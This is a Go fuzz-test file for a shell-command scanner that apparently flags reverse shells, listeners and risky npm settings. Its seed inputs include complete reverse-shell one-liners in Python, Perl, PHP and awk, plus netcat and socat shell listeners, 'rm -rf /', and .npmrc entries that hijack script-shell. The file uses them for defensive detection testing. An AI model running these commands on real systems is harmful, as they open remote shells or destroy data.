package catalog

import (
	"io/fs"
	"strings"
	"testing"
	"time"

	"github.com/safeclaw/safeclaw/action"
)

// FuzzScanCode: scanning code in any language never panics and stays
// fast on any input. Run: go test -run=- -fuzz=FuzzScanCode ./shell/catalog
func FuzzScanCode(f *testing.F) {
	seeds := []string{
		`import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")`,
		`require("net").createServer(c=>c.pipe(c)).listen(7000,"0.0.0.0")`,
		`$c=new IO::Socket::INET(PeerAddr,"h:1");STDIN->fdopen($c,r);system$_ while<>;`,
		`BEGIN { s = "/inet/tcp/" LPORT "/0/0"; while (1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }`,
		`$sock=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");`,
		`eval(Buffer.from("x","base64").toString())`,
		`system(system(system(`,
		`"/inet/tcp/`,
		`connect((`,
		`TCPServer.new(`,
	}
	for i, s := range seeds {
		f.Add(uint8(i), s)
	}
	f.Fuzz(func(t *testing.T, l uint8, code string) {
		lg := lang(l % uint8(len(langNames)))
		start := time.Now()
		_ = scanCode(lg, code)
		var fi finder
		fi.code(lg, "fuzz", code)
		if d := time.Since(start); d > 2*time.Second && len(code) < 1<<16 {
			t.Fatalf("scan of %d bytes took %v", len(code), d)
		}
	})
}

// FuzzDetect: any argv, in any program's slot, never panics.
func FuzzDetect(f *testing.F) {
	for _, s := range []string{
		"nc -lvnp 4444", "ssh -NR 8080:localhost:3000 host", "docker run -dp 80:80 x",
		"socat TCP-LISTEN:1,fork EXEC:sh", "python3 -c 'x'", "npm run dev", "rm -rf /",
		"tar -xzf a.tgz -C", "sed -i", "ssh -o", "kubectl port-forward", "openssl s_server -accept",
	} {
		f.Add(s, "")
	}
	f.Fuzz(func(t *testing.T, line, stdin string) {
		ws := strings.Fields(line)
		if len(ws) > 64 {
			ws = ws[:64]
		}
		c := Command{
			Views:    []action.Argv{action.ParseArgv(ws)},
			Cwd:      "/home/dev/project",
			Home:     "/home/dev",
			Stdin:    stdin,
			ReadFile: func(string) ([]byte, error) { return []byte(line), nil },
		}
		_ = Detect(c)
	})
}

// FuzzNpmrc: any .npmrc never panics, and one without a setting that names
// a program or loads code (script-shell, shell, git, node-options) adds no
// script and no opaque facet to npm test.
// Run: go test -run=- -fuzz=FuzzNpmrc ./shell/catalog
func FuzzNpmrc(f *testing.F) {
	for _, s := range []string{
		"script-shell=nc -l 4444\n", "script_shell = \"ngrok\"\n", "node-options=--require /tmp/x.js\n",
		"registry=https://r.example/\n; comment\n# comment\n", "[x]\nscript-shell=nc -l 1\n",
		"script-shell=${EVIL}\n", "git=/usr/bin/git\nshell=/bin/bash\n", "=\n\n  =x\n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, rc string) {
		c := Command{
			Views: []action.Argv{action.ParseArgv([]string{"npm", "test"})},
			Cwd:   "/p", Home: "/h",
			ReadFile: func(name string) ([]byte, error) {
				if name == "/p/.npmrc" {
					return []byte(rc), nil
				}
				return nil, fs.ErrNotExist
			},
		}
		res := Detect(c)
		folded := strings.ReplaceAll(strings.ToLower(rc), "_", "-")
		for _, k := range []string{"script-shell", "shell", "git", "node-options"} {
			if strings.Contains(folded, k) {
				return
			}
		}
		if len(res.Scripts) > 0 {
			t.Fatalf("scripts %+v from %q", res.Scripts, rc)
		}
		for _, a := range res.Facets {
			if a.Kind == action.ShellOpaque {
				t.Fatalf("opaque %+v from %q", a, rc)
			}
		}
	})
}
